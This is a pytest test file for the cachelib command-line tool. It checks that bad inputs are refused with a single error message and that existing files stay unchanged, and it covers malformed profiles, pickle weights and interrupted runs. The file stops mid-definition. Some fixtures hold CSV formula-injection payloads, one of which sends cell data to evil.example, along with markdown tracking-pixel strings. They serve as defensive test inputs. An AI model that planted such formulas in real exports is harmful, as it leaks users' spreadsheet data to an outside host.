"""The fault and bad-input catalogue (issue 17): what each bad input gets.

Every case names the catalogue item it pins and asserts what the user gets — the exit code and
one line on stderr, or the exception class — that the message names the input at fault, and that
no file that was there before changed (every file under the test's folder is hashed before and
after). docs/faults.md lists the same catalogue for people.

The faults of items 1-3 run real processes (``python -m cachelib profile`` on the tiny-llama
preset): two runs writing one ``--out`` at once, Ctrl-C and SIGTERM on a run whose ``--out``
already holds a complete profile, SIGKILL; afterwards every profile present opens.
"""

from __future__ import annotations

import argparse
import hashlib
import math
import os
import signal
import subprocess
import sys
import textwrap
import time
from dataclasses import dataclass
from pathlib import Path

import pandas as pd
import pytest

ROOT = Path(__file__).resolve().parents[1]
if str(ROOT) not in sys.path:  # the app is a folder, not a package of cachelib
    sys.path.insert(0, str(ROOT))

from cachelib.cli import main  # noqa: E402
from cachelib.core.cells import escape_cell, unescape_cell  # noqa: E402
from cachelib.core.units import parse_memory  # noqa: E402
from cachelib.profile import list_profiles, load_profile, read_meta, run_profile, save_profile  # noqa: E402
from cachelib.profile.guard import parse_memory_limit  # noqa: E402
from cachelib.profile.store import ENDED_WITHOUT_CLOSING, ProfileWriter  # noqa: E402

MODEL = "tiny-llama"


# --- helpers ------------------------------------------------------------------------------------


def snapshot(folder: Path) -> dict[str, str]:
    """Every file under ``folder`` -> the hash of its bytes."""
    out = {}
    for p in sorted(folder.rglob("*")):
        if p.is_file() and not p.is_symlink() and p.stat().st_size < 10**7:
            try:
                out[str(p.relative_to(folder))] = hashlib.sha256(p.read_bytes()).hexdigest()
            except OSError:
                pass
    return out


def unchanged(before: dict[str, str], after: dict[str, str]) -> list[str]:
    """Files that were there before and are gone or different now."""
    return [name for name, digest in before.items() if after.get(name) != digest]


def run_cli(argv: list[str], capsys) -> tuple[int, list[str], str]:
    """``python -m cachelib ARGV`` in this process: exit code, the non-empty stderr lines, stdout."""
    code = main(argv)
    captured = capsys.readouterr()
    return code, [line for line in captured.err.splitlines() if line.strip()], captured.out


@pytest.fixture
def world(tmp_path, tiny_profile):
    """A folder holding a complete profile (``profiles/existing.csv``) and a few other files."""
    (tmp_path / "profiles").mkdir()
    (tmp_path / "profiles" / "existing.csv").write_bytes(tiny_profile.read_bytes())
    (tmp_path / "afile").write_text("a file, not a folder\n")
    (tmp_path / "x.csv").mkdir()  # a folder named like a profile
    return tmp_path


@pytest.fixture(scope="module")
def tiny_profile(tmp_path_factory, load_model) -> Path:
    path = tmp_path_factory.mktemp("existing") / "existing.csv"
    run_profile(
        load_model(MODEL, "mlx"),
        ["standard", "rotating:max_size=8,keep=2"],
        prompt="an existing run",
        max_tokens=6,
        out=path,
    )
    return path


@pytest.fixture
def no_model_load(monkeypatch):
    """Fail the test if a run gets as far as loading the model."""

    def refuse(*args, **kwargs):
        raise AssertionError("the model was loaded before the bad input was refused")

    monkeypatch.setattr("cachelib.profile.run.load", refuse)


# --- one line, exit 2, before any work: items 4, 6, 7, 8 ----------------------------------------------


@dataclass(frozen=True)
class Case:
    item: int
    what: str  # the bad input, in words
    argv: tuple[str, ...]  # {w} is the world folder
    names: str  # the message names this (the input at fault)
    says: str = ""  # ... and says this (the rule, the range, the encoding)

    def args(self, w: Path) -> list[str]:
        return _in(w, self.argv)


def _profile(*extra: str, out: str = "{w}/profiles/new.csv", prompt: bool = True) -> tuple[str, ...]:
    return (
        "profile",
        "--model",
        MODEL,
        *(("--prompt", "hi") if prompt else ()),
        "--max-tokens",
        "2",
        "--out",
        out,
        *extra,
    )


def _in(w: Path, argv: tuple[str, ...]) -> list[str]:
    return [a.format(w=w) for a in argv]


def _plan(*extra: str) -> tuple[str, ...]:
    return ("plan", "--model", "smollm2", "--context", "1000", "--no-default-evidence", *extra)


LONG_NAME = "p" * 300 + ".csv"

BEFORE_LOAD = [
    # 4. --out faults surface before anything is loaded
    Case(4, "--out is a folder named x.csv", _profile(out="{w}/x.csv"), "x.csv", "is a folder"),
    Case(4, "--out under a file", _profile(out="{w}/afile/run.csv"), "afile/run.csv", "a file stands where"),
    Case(4, "--out in /proc", _profile(out="/proc/run.csv"), "/proc/run.csv", "cannot write"),
    Case(
        4,
        "--out with a name over the file system's limit",
        _profile(out="{w}/" + LONG_NAME),
        LONG_NAME[-40:],
        "too long",
    ),
    Case(4, "--out not a .csv", _profile(out="{w}/run.txt"), "run.txt", "use a .csv name"),
    # 6. specs that pass the grammar but no backend can index
    Case(
        6,
        "rotating:max_size=10**12",
        _profile("--strategy", "rotating:max_size=1000000000000"),
        "max_size",
        "<= 2147483647",
    ),
    Case(
        6,
        "rotating:max_size=10**29",
        _profile("--strategy", "rotating:max_size=" + "1" + "0" * 29),
        "max_size",
        "int32",
    ),
    Case(
        6, "static:max_len=10**12", _profile("--strategy", "static:max_len=1000000000000"), "max_len", "<= 2147483647"
    ),
    Case(6, "--max-kv-size 10**12", _profile("--max-kv-size", "1000000000000"), "--max-kv-size", "<= 2,147,483,647"),
    # 7. non-finite and out-of-range numbers, every numeric option
    Case(7, "--memory-limit inf", _profile("--memory-limit", "inf"), "--memory-limit", "finite"),
    Case(7, "--memory-limit nan", _profile("--memory-limit", "nan"), "--memory-limit", "finite"),
    Case(7, "--memory-limit 0", _profile("--memory-limit", "0"), "--memory-limit", "> 0"),
    Case(7, "--max-tokens 0", _profile("--max-tokens", "0"), "--max-tokens", ">= 1"),
    Case(7, "--sample-every nan", _profile("--sample-every", "nan"), "--sample-every", "integer"),
    Case(
        7,
        "--quantized-kv-start -1",
        _profile("--kv-bits", "4", "--quantized-kv-start", "-1"),
        "--quantized-kv-start",
        ">= 0",
    ),
    Case(7, "--kv-bits 7", _profile("--kv-bits", "7"), "--kv-bits", "choose from"),
    Case(7, "plan --budget inf", _plan("--budget", "inf"), "--budget", "finite"),
    Case(7, "plan --budget nan", _plan("--budget", "nan"), "--budget", "finite"),
    Case(
        7, "plan --weights-memory inf", _plan("--budget", "10", "--weights-memory", "inf"), "--weights-memory", "finite"
    ),
    Case(7, "plan --reserve -1", _plan("--reserve", "-1"), "--reserve", ">= 0"),
    Case(7, "plan --weights-dtype inf", _plan("--weights-dtype", "inf"), "--weights-dtype", "must be > 0 and <= 64"),
    Case(7, "plan --prefill-chunk 0", _plan("--prefill-chunk", "0"), "--prefill-chunk", ">= 1"),
    Case(7, "plan --prefill -1", _plan("--prefill", "-1"), "--prefill", ">= 0"),
    Case(7, "plan --context 0", ("plan", "--model", "smollm2", "--context", "0"), "--context", ">= 1"),
    Case(7, "plan --max-kl nan", _plan("--max-kl", "nan"), "--max-kl", "finite"),
    Case(7, "plan --max-kl -1", _plan("--max-kl", "-1"), "--max-kl", ">= 0"),
    Case(7, "plan --min-agreement 2", _plan("--min-agreement", "2"), "--min-agreement", "<= 1"),
    Case(
        19,
        "--memory-limit 1e300 (overflowed to a float infinity once)",
        _profile("--memory-limit", "1e300"),
        "--memory-limit",
        "from 0 to 1,152,921,504,606,846,976 bytes",
    ),
    Case(19, "plan --budget 1e300", _plan("--budget", "1e300"), "--budget", "from 0 to"),
    Case(19, "plan --budget 1e300GB", _plan("--budget", "1e300GB"), "--budget", "from 0 to"),
    Case(
        19,
        "plan --weights-memory 1e300",
        _plan("--budget", "1", "--weights-memory", "1e300"),
        "--weights-memory",
        "from 0 to",
    ),
    Case(19, "plan --reserve 1e300", _plan("--reserve", "1e300"), "--reserve", "from 0 to"),
    Case(7, "sweep --workers 0", ("sweep", "{w}/grid.toml", "--workers", "0"), "--workers", ">= 1"),
    # 8. text input
    Case(
        8,
        "--text-file /dev/zero",
        _profile("--text-file", "/dev/zero", prompt=False),
        "/dev/zero",
        "a character device",
    ),
    Case(8, "--text-file over 50 MB", _profile("--text-file", "{w}/big.txt", prompt=False), "big.txt", "50 MB"),
    Case(
        19, "--text-file a named pipe", _profile("--text-file", "{w}/pipe.txt", prompt=False), "pipe.txt", "named pipe"
    ),
    Case(8, "--text-file in Latin-1", _profile("--text-file", "{w}/latin1.txt", prompt=False), "latin1.txt", "UTF-8"),
    Case(8, "--text-file binary", _profile("--text-file", "{w}/binary.dat", prompt=False), "binary.dat", "UTF-8"),
    Case(
        8,
        "--text-file missing",
        _profile("--text-file", "{w}/missing.txt", prompt=False),
        "missing.txt",
        "No such file",
    ),
]

if not os.path.exists("/proc/self"):  # not Linux: no /proc to refuse
    BEFORE_LOAD = [c for c in BEFORE_LOAD if "/proc" not in c.what]

# 9. model folders: broken safetensors, pickle weights only (refused by the loader, so after "loading" starts)
MODEL_FOLDERS = [
    Case(
        9,
        "a 0-byte model.safetensors",
        _profile("--model", "{w}/empty-model"),
        "empty-model/model.safetensors",
        "empty",
    ),
    Case(
        9,
        "random bytes as model.safetensors",
        _profile("--model", "{w}/random-model"),
        "random-model/model.safetensors",
        "not a usable safetensors file",
    ),
    Case(9, "only pytorch_model.bin", _profile("--model", "{w}/pickle-model"), "pytorch_model.bin", "never pickle"),
    Case(
        9,
        "only pytorch_model.bin, torch",
        _profile("--model", "{w}/pickle-model", "--backend", "torch"),
        "pytorch_model.bin",
        "never pickle",
    ),
]


def _bad_inputs(w: Path) -> None:
    (w / "latin1.txt").write_bytes("caf\xe9 au lait, na\xefve".encode("latin-1"))
    (w / "binary.dat").write_bytes(bytes(range(256)) * 8)
    (w / "grid.toml").write_text('name = "g"\n')
    with open(w / "big.txt", "wb") as f:  # sparse: 50 MB + 1 byte of zeros that take no disk
        f.truncate(50_000_001)
    if not (w / "pipe.txt").exists():
        os.mkfifo(w / "pipe.txt")
    from cachelib.models.presets import preset_folder

    preset = preset_folder(MODEL)
    for name, weights in (("empty-model", b""), ("random-model", os.urandom(4096)), ("pickle-model", None)):
        folder = w / name
        folder.mkdir()
        for f in preset.iterdir():
            if f.suffix != ".safetensors":
                (folder / f.name).write_bytes(f.read_bytes())
        if weights is None:
            (folder / "pytorch_model.bin").write_bytes(b"not read: pickles are never loaded")
        else:
            (folder / "model.safetensors").write_bytes(weights)


@pytest.mark.parametrize("case", BEFORE_LOAD, ids=lambda c: f"{c.item}-{c.what}")
def test_bad_input_exits_2_with_one_line_naming_it_before_any_work(case, world, capsys, no_model_load):
    _refused(case, world, capsys)


@pytest.mark.parametrize("case", MODEL_FOLDERS, ids=lambda c: f"{c.item}-{c.what}")
def test_9_a_bad_model_folder_exits_2_with_one_line_naming_the_file(case, world, capsys):
    _refused(case, world, capsys)


def _refused(case: Case, world: Path, capsys) -> None:
    _bad_inputs(world)
    before = snapshot(world)
    code, err, _ = run_cli(case.args(world), capsys)
    assert code == 2, err
    assert len(err) == 1, err
    assert case.names in err[0] and case.says in err[0], err[0]
    assert not unchanged(before, snapshot(world))
    assert set(snapshot(world)) == set(before), "a refused run wrote a file"


@pytest.mark.skipif(hasattr(os, "geteuid") and os.geteuid() == 0, reason="root writes into read-only folders")
def test_4_read_only_folder_is_refused_before_the_model_loads(world, capsys, no_model_load):
    folder = world / "read-only"
    folder.mkdir()
    folder.chmod(0o555)
    try:
        code, err, _ = run_cli(_in(world, _profile(out=f"{folder}/run.csv")), capsys)
    finally:
        folder.chmod(0o755)
    assert code == 2 and len(err) == 1 and "read-only/run.csv" in err[0] and "Permission denied" in err[0], err


def test_4_the_api_refuses_a_bad_out_path_before_loading(world, no_model_load):
    with pytest.raises(IsADirectoryError, match="x.csv"):
        run_profile(MODEL, ["standard"], prompt="hi", out=world / "x.csv")
    with pytest.raises(NotADirectoryError, match="afile"):
        run_profile(MODEL, ["standard"], prompt="hi", out=world / "afile" / "run.csv")


def test_7_evaluate_numbers_are_checked_like_the_others_when_present(capsys):
    import importlib.util

    if importlib.util.find_spec("cachelib.cli.evaluate") is None:
        pytest.skip("no evaluate command here")
    for flag, value in (("--prefill-chunk", "0"), ("--context", "nan"), ("--windows", "inf")):
        code, err, _ = run_cli(["evaluate", flag, value, "--context", "8"], capsys)
        assert code == 2 and len(err) == 1 and flag in err[0], err


# --- 6. a run that cannot fit is refused with the figure; the guard has a default -------------------------


def test_6_a_run_whose_caches_cannot_fit_is_refused_with_the_predicted_bytes(world, capsys, no_model_load):
    before = snapshot(world)
    code, err, _ = run_cli(_in(world, _profile("--strategy", "static:max_len=2000000000")), capsys)  # 4.1 TB of cache
    assert code == 2 and len(err) == 1, err
    assert "would need 4.10 TB (4,096,000,000,000 bytes" in err[0] and "--memory-limit" in err[0], err[0]
    assert not unchanged(before, snapshot(world)) and set(snapshot(world)) == set(before)


def test_6_static_20m_tokens_is_refused_on_a_small_machine_and_runs_under_an_explicit_limit(world, capsys, monkeypatch):
    monkeypatch.setattr("cachelib.profile.guard.available_memory", lambda device: 8 * 10**9)
    spec = "static:max_len=20000000"  # 41 GB of float32 cache on tiny-llama
    code, err, _ = run_cli(_in(world, _profile("--strategy", spec)), capsys)
    assert code == 2 and len(err) == 1 and "would need 40.96 GB" in err[0] and "7.20 GB" in err[0], err
    # Asked explicitly: the run goes under the guard, which stops it before the first step allocates.
    handler = signal.getsignal(signal.SIGTERM)
    code, err, out = run_cli(_in(world, _profile("--strategy", spec, "--memory-limit", "1")), capsys)
    assert code == 0, err
    assert signal.getsignal(signal.SIGTERM) is handler  # the run's SIGTERM handler is gone with the run
    profile = load_profile(world / "profiles" / "new.csv")
    assert profile.status == "incomplete" and "memory guard" in profile.meta["reason"]
    assert int(profile.meta["steps_completed"]) == 0


def test_6_the_default_guard_stops_a_run_that_outgrows_the_prediction(load_model, tmp_path, monkeypatch):
    import cachelib.profile.guard as guard

    monkeypatch.setattr(guard, "available_memory", lambda device: 10**9)
    monkeypatch.setattr(guard, "predicted_peaks", lambda *a: [0])  # a prediction that is wrong on purpose
    monkeypatch.setattr(guard, "predicted_activations", lambda *a, **k: 0)
    monkeypatch.setattr(guard, "DEFAULT_SHARE", 2e-4)  # 200 kB for the caches
    profile = run_profile(load_model(MODEL, "mlx"), ["standard"], prompt="hi", max_tokens=4, out=tmp_path / "r.csv")
    assert profile.status == "incomplete"
    assert "memory guard" in profile.meta["reason"] and "the default" in profile.meta["reason"]


# --- 7. the Python API refuses non-finite numbers too ----------------------------------------------


@pytest.mark.parametrize(
    "make, names",
    [
        (lambda: parse_memory_limit(float("inf")), "memory_limit"),
        (lambda: parse_memory_limit(float("nan")), "memory_limit"),
        (lambda: parse_memory_limit(-1), "memory_limit"),
        (
            lambda: __import__("cachelib.plan.request", fromlist=["x"]).memory_bytes("--budget", float("inf")),
            "--budget",
        ),
        (lambda: _request(budget_bytes=float("inf")), "budget_bytes"),
        (lambda: _request(weights_bytes=float("nan")), "weights_bytes"),
        (lambda: _request(max_kl=float("nan")), "--max-kl"),
        (lambda: _request(min_agreement=2.0), "--min-agreement"),
        (lambda: _request(prefill_chunk=0), "--prefill-chunk"),
        (lambda: _request(weights_dtype=math.inf), "weights bits per parameter"),
        (lambda: _request(context=float("inf")), "--context"),
    ],
    ids=lambda v: v if isinstance(v, str) else "",
)
def test_7_the_api_raises_value_error_naming_the_number(make, names):
    with pytest.raises(ValueError, match=names.replace("-", r"\-")):
        make()


def _request(**kw):
    from cachelib.plan.request import PlanRequest

    return PlanRequest(["standard"], **{"context": 1000, **kw})


def test_7_argument_types_refuse_non_finite_values_with_the_range():
    from cachelib.cli.args import finite_float, int_range

    share = finite_float(0.0, 1.0)
    assert share("0.25") == 0.25
    for text, message in (("nan", "finite"), ("inf", "finite"), ("-inf", "finite"), ("1.5", "<= 1"), ("x", "number")):
        with pytest.raises(argparse.ArgumentTypeError, match=message):
            share(text)
    count = int_range(1, 10)
    assert count("1_0") == 10
    for text, message in (("0", ">= 1 and <= 10"), ("11", "<= 10"), ("nan", "integer"), ("1.5", "integer")):
        with pytest.raises(argparse.ArgumentTypeError, match=message):
            count(text)


# --- 9. model folders: never pickle ------------------------------------------------------------------


@pytest.mark.parametrize("backend", ["mlx", "torch"])
def test_9_pickle_weights_next_to_safetensors_are_never_loaded(tmp_path, backend, monkeypatch):
    import pickle

    from cachelib.models import load
    from cachelib.models.presets import preset_folder

    folder = tmp_path / "model"
    folder.mkdir()
    for f in preset_folder(MODEL).iterdir():
        (folder / f.name).write_bytes(f.read_bytes())
    (folder / "pytorch_model.bin").write_bytes(pickle.dumps({"never": "loaded"}))
    (folder / "extra.pt").write_bytes(b"junk")
    if backend == "torch":
        import torch

        def refuse(*a, **k):
            raise AssertionError("torch.load was called on a pickle file")

        monkeypatch.setattr(torch, "load", refuse)
    loaded = load(str(folder), backend)
    assert loaded.info.num_layers == 4


# --- 11, 12. profiles as untrusted input ----------------------------------------------------------


def _edit(path: Path, out: Path, table: str, column: str, value: str, nth: int = 1, key: str | None = None) -> Path:
    frame = pd.read_csv(path, dtype=str, keep_default_na=False)
    rows = frame.index[(frame["table"] == table) & ((frame["key"] == key) if key else True)]
    frame.loc[rows[nth if not key else -1], column] = value
    frame.to_csv(out, index=False)
    return out


BAD_PROFILES = [
    (11, "-inf in an integer column", "steps", "token_id", "-inf", "'-inf' is not an integer"),
    (11, "a 40-digit number in an integer column", "layers", "bytes_used", "9" * 40, "does not fit a 64-bit integer"),
    (11, "an empty position", "steps", "position", "", "is empty"),
    (11, "a number in a float column that is text", "steps", "wall_seconds", "fast", "is not a number"),
    (12, "KL of -1000", "steps", "kl", "-1000", "kl must be >= 0"),
    (12, "an infinite KL", "steps", "kl", "inf", "not a finite number"),
    (12, "top-1 agreement of 2", "steps", "top1_agree", "2", "not a flag (0 or 1)"),
    (12, "a negative step", "layers", "step", "-4", "step must be >= 0"),
    (12, "a NUL byte", "steps", "strategy", "stan\x00dard", "NUL byte"),
    (12, "a mask of other characters", "masks", "mask", "1x1", "not a mask"),
]
BAD_META = [
    (11, "strategies meta is a number", "strategies", "5", "not a JSON list of strategy names"),
    (11, "strategies meta is a dict", "strategies", '{"a": 1}', "not a JSON list of strategy names"),
    (11, "strategies meta lists a number", "strategies", '["standard", 3]', "not a JSON list of strategy names"),
    (11, "baseline not among the strategies", "baseline", "lru", "not one of the run's strategies"),
    (12, "steps_completed of -2", "steps_completed", "-2", "not a whole number"),
    (12, "a status nobody writes", "status", "finished", "not one of running, complete, incomplete"),
]


@pytest.fixture(scope="module")
def masked_profile(tmp_path_factory, load_model) -> Path:
    from cachelib.profile import Probes

    path = tmp_path_factory.mktemp("masked") / "masked.csv"
    run_profile(
        load_model(MODEL, "mlx"),
        ["standard", "rotating:max_size=8,keep=2"],
        prompt="hello there",
        max_tokens=6,
        probes=Probes(masks=1),
        out=path,
    )
    return path


@pytest.mark.parametrize("item, what, table, column, value, says", BAD_PROFILES, ids=[c[1] for c in BAD_PROFILES])
def test_11_12_a_malformed_profile_is_one_value_error_naming_file_line_and_column(
    item, what, table, column, value, says, masked_profile, tmp_path
):
    bad = _edit(masked_profile, tmp_path / "bad.csv", table, column, value)
    before = snapshot(tmp_path)
    with pytest.raises(ValueError) as e:
        load_profile(bad)
    message = str(e.value)
    assert message.startswith(f"{bad}, line ") and f"column {column!r}" in message and says in message, message
    line = int(message.split(", line ")[1].split(",")[0])
    text = bad.read_text(encoding="utf-8").splitlines()[line - 1]  # the line named holds the bad cell
    assert text.startswith(table + ",") and value in text, text
    assert not unchanged(before, snapshot(tmp_path))


@pytest.mark.parametrize("item, what, key, value, says", BAD_META, ids=[c[1] for c in BAD_META])
def test_11_12_malformed_metadata_is_refused_by_both_readers(item, what, key, value, says, masked_profile, tmp_path):
    bad = _edit(masked_profile, tmp_path / "bad.csv", "meta", "value", value, key=key)
    for read in (load_profile, read_meta):
        with pytest.raises(ValueError, match=f"bad.csv, line [0-9]+, meta '{key}': .*{says}"):
            read(bad)


def test_11_a_bad_file_is_listed_as_not_a_profile_and_the_listing_goes_on(masked_profile, tmp_path, capsys):
    folder = tmp_path / "profiles"
    folder.mkdir()
    (folder / "good.csv").write_bytes(masked_profile.read_bytes())
    _edit(masked_profile, folder / "bad.csv", "meta", "value", "{}", key="strategies")
    code, err, out = run_cli(["profiles", str(folder)], capsys)
    assert code == 0, err
    lines = {line.split()[0]: line for line in out.splitlines()}
    assert "complete" in lines["good.csv"]
    assert "not a profile" in lines["bad.csv"] and "meta 'strategies'" in lines["bad.csv"]


def test_12_values_read_back_exactly_and_a_profile_round_trips(masked_profile, tmp_path):
    profile = load_profile(masked_profile)
    again = load_profile(save_profile(profile, tmp_path / "again.csv"))
    assert again == profile


# --- 14. spreadsheet formulas --------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://x","y")',
        "+1+2",
        "-2+3",
        "@SUM(A1)",
        "\tx",
        "\rx",
        "'quoted",
        "''",
        "'",
        "plain",
        "",
        "-0.5",
        "+3",
        "-inf",
        "1e5",
        "=",
        "-",
        "- item",
        "a=b",
    ],
)
def test_14_cells_are_neutralised_and_come_back_exactly(text):
    escaped = escape_cell(text)
    assert unescape_cell(escaped) == text
    live = text[:1] in ("=", "+", "-", "@", "\t", "\r", "'") and not _number(text)
    assert escaped == ("'" + text if live else text)  # numbers like -0.5 stay numbers


def test_14_a_profile_with_formula_text_is_safe_on_disk_and_round_trips(load_model, tmp_path):
    prompt = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    path = tmp_path / "f.csv"
    profile = run_profile(load_model(MODEL, "mlx"), ["standard"], prompt=prompt, max_tokens=2, out=path, name="@name")
    raw = path.read_text(encoding="utf-8")
    assert "'=HYPERLINK(" in raw and ",'@name," in raw
    import csv

    cells = [c for row in csv.reader(path.open(newline="", encoding="utf-8")) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "@") or (c[:1] == "-" and not _number(c))]
    back = load_profile(path)
    assert back.meta["prompt"] == prompt and back.meta["name"] == "@name" and back == profile


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_14_plan_csv_neutralises_a_folder_name_and_keeps_numbers(tmp_path, capsys):
    import csv
    import json

    folder = tmp_path / '=HYPERLINK("evil.example","y")'
    folder.mkdir()
    (folder / "config.json").write_text(
        json.dumps(
            {
                "model_type": "llama",
                "num_hidden_layers": 2,
                "hidden_size": 64,
                "num_attention_heads": 2,
                "num_key_value_heads": 1,
                "head_dim": 32,
                "vocab_size": 100,
                "intermediate_size": 128,
            }
        )
    )
    out = tmp_path / "plan.csv"
    code, err, _ = run_cli(
        [
            "plan",
            "--model",
            str(folder / "config.json"),
            "--context",
            "1000",
            "--budget",
            "0.0011GB",
            "--weights-memory",
            "0.001GB",
            "--no-default-evidence",
            "--csv",
            str(out),
        ],
        capsys,
    )
    assert code == 0, err
    row = next(csv.DictReader(out.open(newline="")))
    assert row["model"] == "'" + folder.name
    assert not [v for v in row.values() if v[:1] in ("=", "+", "@") or (v[:1] == "-" and not _number(v))]
    assert int(row["headroom_bytes"]) < 0  # a negative number stays a number


# --- 15. user text in the app is plain text ---------------------------------------------------------


def test_15_markdown_in_user_text_renders_as_the_characters():
    from app.plain import md

    assert md("![x](http://e/x.png) **b** [l](u) :red[r] <b> www.e.com") == (
        r"\!\[x\](http\://e/x.png) \*\*b\*\* \[l\](u) :red\[r\] \<b\> www\.e.com"
    )
    assert md("- a list\n# a heading") == r"\- a list \# a heading"
    assert md("plain words: kept (as they are).") == "plain words: kept (as they are)."


def test_11_15_the_profiles_page_escapes_prompts_and_shows_one_error_per_bad_file(
    masked_profile, tmp_path, monkeypatch, load_model
):
    from streamlit.testing.v1 import AppTest

    folder = tmp_path / "profiles"
    folder.mkdir()
    monkeypatch.setenv("CACHELIB_PROFILES_DIR", str(folder))
    prompt = "![pixel](http://tracker.example/p.png) [click](http://evil.example) **loud**"
    run_profile(load_model(MODEL, "mlx"), ["standard"], prompt=prompt, max_tokens=3, out=folder / "md.csv")
    _edit(masked_profile, folder / "bad.csv", "steps", "kl", "-1000")
    at = AppTest.from_file(str(ROOT / "app" / "main.py"), default_timeout=120)
    at.run()
    at.switch_page("views/profiles.py").run()
    assert not at.exception
    at.multiselect(key="compare").select("md.csv").select("bad.csv").run()
    assert not at.exception
    assert len(at.error) == 1, [e.value for e in at.error]
    assert "bad.csv, line" in at.error[0].value and "column 'kl'" in at.error[0].value
    described = [m.value for m in at.markdown if "md" in m.value and "tiny" in m.value]
    assert described and "![" not in described[0] and "](" not in described[0].replace("\\](", "")
    assert r"\!\[pixel\]" in described[0]
    assert len(at.get("plotly_chart")) == 4  # the good profile is still compared


# --- 1, 2, 3. real processes: concurrent runs, Ctrl-C, SIGTERM, SIGKILL -----------------------------------


def _start(out: Path, prompt: str, max_tokens: int) -> subprocess.Popen:
    env = {**os.environ, "PYTHONUNBUFFERED": "1"}
    return subprocess.Popen(
        [
            sys.executable,
            "-m",
            "cachelib",
            "profile",
            "--model",
            MODEL,
            "--prompt",
            prompt,
            "--max-tokens",
            str(max_tokens),
            "--out",
            str(out),
        ],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env=env,
        cwd=ROOT,
        preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL),  # even where the test runner ignores Ctrl-C
    )


def _wait_for_steps(folder: Path, n: int, timeout: float = 240) -> Path:
    """The partial file of a run in ``folder`` once it holds ``n`` steps rows."""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        for p in folder.glob(".*.partial"):
            try:
                if p.read_text(encoding="utf-8").count("\nsteps,") >= n:
                    return p
            except OSError:
                pass
        time.sleep(0.2)
    raise AssertionError(f"no run in {folder} reached {n} steps")


def _every_profile_opens(folder: Path) -> list:
    files = list_profiles(folder)
    for f in files:
        load_profile(f.path)  # raises on anything unreadable
    return files


@pytest.mark.slow
def test_1_two_runs_writing_one_out_each_keep_their_own_complete_profile(tmp_path):
    out = tmp_path / "same.csv"
    runs = [_start(out, prompt, 40) for prompt in ("the first prompt", "the second prompt")]
    results = [r.communicate(timeout=400) for r in runs]
    assert [r.returncode for r in runs] == [0, 0], results
    written = sorted(p.name for p in tmp_path.iterdir())
    assert len(written) == 2 and "same.csv" in written, written  # and no partial file left behind
    reported = [line for stdout, _ in results for line in stdout.splitlines() if line.startswith("profile: ")]
    assert sorted(line.split()[1] for line in reported) == sorted(str(tmp_path / n) for n in written)
    assert any("was kept as it is (another run wrote it while this one ran)" in line for line in reported)
    profiles = [load_profile(tmp_path / n) for n in written]
    assert all(p.complete for p in profiles)
    assert sorted(p.meta["prompt"] for p in profiles) == ["the first prompt", "the second prompt"]
    for p in profiles:  # each file holds one run's rows alone
        assert len(p.frame("steps")) == 40 and p.frame("steps")["step"].is_monotonic_increasing


@pytest.mark.slow
@pytest.mark.parametrize("sig, code, how", [(signal.SIGINT, 130, "Ctrl-C"), (signal.SIGTERM, 143, "SIGTERM")])
def test_2_3_ctrl_c_and_sigterm_keep_the_existing_profile_and_write_the_incomplete_run_next_to_it(
    sig, code, how, tmp_path, tiny_profile
):
    out = tmp_path / "run.csv"
    out.write_bytes(tiny_profile.read_bytes())
    before = snapshot(tmp_path)
    run = _start(out, "a run that is stopped", 100_000)
    _wait_for_steps(tmp_path, 3)
    run.send_signal(sig)
    stdout, stderr = run.communicate(timeout=120)
    assert run.returncode == code, stderr
    assert not unchanged(before, snapshot(tmp_path))  # the complete profile is untouched
    incomplete = tmp_path / "run.incomplete.csv"
    assert f"interrupted ({how}): profile: {incomplete} (incomplete: interrupted ({how}) during step" in stderr, stderr
    assert f"{out} was kept as it is" in stderr
    stopped = load_profile(incomplete)
    assert stopped.status == "incomplete" and int(stopped.meta["steps_completed"]) >= 3
    assert load_profile(out).complete
    assert [f.name for f in _every_profile_opens(tmp_path)] == ["run.csv", "run.incomplete.csv"]


@pytest.mark.slow
def test_3_sigkill_leaves_a_partial_file_listed_as_ended_without_closing(tmp_path, capsys):
    from app import profile_folder  # the app's Profiles page lists what list_profiles lists, with this table

    out = tmp_path / "killed.csv"
    run = _start(out, "a run that is killed", 100_000)
    partial = _wait_for_steps(tmp_path, 3)
    assert read_meta(partial)["status"] == "running"  # while its process lives
    run.kill()
    run.communicate(timeout=60)
    files = _every_profile_opens(tmp_path)
    assert [(f.name, f.partial) for f in files] == [(partial.name, True)]
    meta = read_meta(partial)
    assert meta["status"] == "incomplete" and meta["reason"] == ENDED_WITHOUT_CLOSING
    assert load_profile(partial).frame("steps")["step"].max() >= 2
    table = profile_folder.listing(files)
    assert table.loc[0, "status"] == "incomplete" and "ended without closing" in table.loc[0, "reason"]
    code, err, printed = run_cli(["profiles", str(tmp_path)], capsys)
    assert code == 0 and partial.name in printed and "ended without closing" in printed


def test_3_a_partial_file_reads_as_running_while_its_writer_holds_it_then_as_ended(tiny_profile, tmp_path, monkeypatch):
    from streamlit.testing.v1 import AppTest

    writer = ProfileWriter(tmp_path / "r.csv")
    writer.write_meta(load_profile(tiny_profile).meta | {"status": "running", "reason": ""})
    writer.flush()
    [f] = list_profiles(tmp_path)
    assert f.partial and f.label.startswith("r.") and f.label.endswith(".partial")
    assert read_meta(f.path)["status"] == "running"
    writer._file.close()  # the process died: its lock is gone, its file stays
    assert read_meta(f.path)["reason"] == ENDED_WITHOUT_CLOSING
    # The app's Profiles page lists it, and loads it.
    monkeypatch.setenv("CACHELIB_PROFILES_DIR", str(tmp_path))
    at = AppTest.from_file(str(ROOT / "app" / "main.py"), default_timeout=120)
    at.run()
    at.switch_page("views/profiles.py").run()
    listing = at.dataframe[0].value.set_index("profile")
    assert listing.loc[f.name, "status"] == "incomplete" and "ended without closing" in listing.loc[f.name, "reason"]
    at.multiselect(key="compare").select(f.name).run()
    assert not at.exception and not at.error


# --- items 5, 10, 13, 16, 17, 18 ------------------------------------------------------------------------
# The other half of the catalogue (sweep index rows whose profile is empty, the Planner page on
# huge contexts, large profiles, the sweep cluster's sockets, transformers and mlx-lm parity) is
# added here by its owner, in the same form: a case per input, the exit code or exception class,
# the message naming the input, no existing file changed.


# 5. a sweep index row marked done whose profile does not open is run again, and the sweep says so

SWEEP_GRID = """\
